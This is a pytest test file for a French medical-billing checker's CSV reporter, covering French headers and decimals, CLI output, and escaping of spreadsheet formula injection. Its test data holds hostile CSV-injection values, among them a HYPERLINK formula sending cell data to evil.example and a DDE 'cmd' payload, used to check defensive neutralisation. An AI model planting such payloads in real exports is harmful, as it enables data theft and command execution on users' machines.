"""CSV report: one row per finding, French spreadsheet conventions, no formula injection."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
import tomllib
from click.testing import CliRunner

from billing_rules.cli import main
from billing_rules.model import InputError, Report, Severity
from billing_rules.reporters import BUILTIN_REPORTERS
from billing_rules.reporters.csv_report import BOM, COLUMNS, HEADERS, CsvReporter, neutralize
from billing_rules.testing import make_finding

EXAMPLE = Path(__file__).resolve().parent.parent / "examples" / "week-2026-01.csv"


finding = make_finding


def render(report: Report) -> str:
    stream = io.StringIO()
    CsvReporter().render(report, stream, color=True)
    return stream.getvalue()


def parse(text: str) -> list[dict[str, str]]:
    """The rows, keyed by the English column keys (the header itself is French)."""
    assert text.startswith(BOM)
    keys = {french: key for key, french in HEADERS.items()}
    rows = csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=";")
    return [{keys[name]: value for name, value in row.items()} for row in rows]


def test_registered() -> None:
    assert BUILTIN_REPORTERS["csv"].name == "csv"


def test_one_row_per_finding_french_decimals() -> None:
    report = Report(
        events=3,
        findings=(
            finding(),
            finding(
                rule="OPP-MEG",
                severity=Severity.OPPORTUNITY,
                amount=Decimal("5"),
                suggestion="G+MEG",
                invoice_id="F-2",
            ),
            finding(amount=None, rule="VL-CASE", severity=Severity.WARNING),
        ),
        input_errors=(),
    )
    text = render(report)
    assert text.splitlines()[0] == BOM + ";".join(HEADERS[column] for column in COLUMNS)
    assert text.startswith(BOM + "règle;gravité;facture;ligne;fichier;praticien;patient;date;message;montant")
    rows = parse(text)
    assert len(rows) == 3
    assert rows[0]["amount"] == "1234,50"
    assert rows[1] == {
        **rows[1],
        "rule": "OPP-MEG",
        "severity": "opportunité",
        "suggestion": "G+MEG",
        "amount": "5,00",
    }
    assert rows[2]["amount"] == ""
    assert [row["severity"] for row in rows] == ["erreur", "opportunité", "alerte"]
    assert "\r\n" in text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_starts_are_neutralized(start: str) -> None:
    assert neutralize(f"{start}1+1") == f"'{start}1+1"
    assert neutralize("P=1") == "P=1"


def test_hostile_values_never_reach_a_formula() -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1;"clic")'
    report = Report(
        events=1,
        findings=(
            finding(
                patient_id=hostile,
                message="@SUM(1+1)*cmd|' /C calc'!A0",
                invoice_id="-2+3",
                suggestion="+G",
                practitioner_id="\t=1",
            ),
        ),
        input_errors=(InputError(line=4, field="date", message="=cmd", invoice_id="=x"),),
    )
    rows = parse(render(report))
    assert rows[0]["patient_id"] == "'" + hostile
    assert rows[0]["message"].startswith("'@")
    assert rows[0]["invoice_id"] == "'-2+3"
    assert rows[0]["suggestion"] == "'+G"
    assert rows[0]["practitioner_id"] == "'\t=1"
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r"
    assert rows[1]["severity"] == "erreur de saisie"
    assert rows[1]["invoice_id"] == "'=x"
    assert rows[1]["line"] == "4"


def test_cli_csv_on_the_example() -> None:
    result = CliRunner().invoke(main, ["check", str(EXAMPLE), "--format", "csv"])
    assert result.exit_code == 1
    rows = parse(result.stdout)
    # The reviewed intent of the example week gives the counts and the euros at risk.
    expected = tomllib.loads(EXAMPLE.with_suffix(".expected.toml").read_text(encoding="utf-8"))
    assert len(rows) == expected["errors"] + expected["warnings"] + expected["opportunities"]
    assert sum(
        Decimal(row["amount"].replace(",", ".")) for row in rows if row["severity"] == "erreur"
    ) == Decimal(str(expected["amount_at_risk"]))
    # SPEC §2: every finding's reference and action; a frequency finding's first invoice.
    assert all(row["citation"] and row["action"] for row in rows)
    snp = next(row for row in rows if row["rule"] == "SNP-WEEK")
    assert snp["action"].startswith("facturer G au lieu de G+SNP")
    assert (snp["window_first_invoice_id"], snp["window_first_date"]) == ("F-2026-0040", "2026-01-05")
    assert all(not row["window_first_invoice_id"] for row in rows if row["rule"] in ("OPP-MOP", "OPP-MEG"))
